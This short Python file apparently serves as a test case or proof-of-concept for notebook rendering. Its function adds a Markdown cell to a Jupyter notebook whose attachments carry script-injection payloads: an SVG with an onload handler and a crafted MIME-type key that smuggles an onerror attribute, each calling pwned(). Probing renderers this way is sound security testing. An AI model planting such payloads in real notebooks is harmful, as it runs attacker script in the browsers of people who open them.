"""Attach a drawing with a script to a Markdown cell.

Wins: page.
"""

import base64

import nbformat


def tamper(notebook):
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>'
    cell = nbformat.v4.new_markdown_cell("![x](attachment:a.svg)\n\n![y](attachment:b.html)")
    text = base64.b64encode(drawing).decode()
    cell.attachments = nbformat.from_dict(
        {"a.svg": {"image/svg+xml": text}, "b.html": {'x" onerror="pwned()': text}}
    )
    notebook.cells.append(cell)
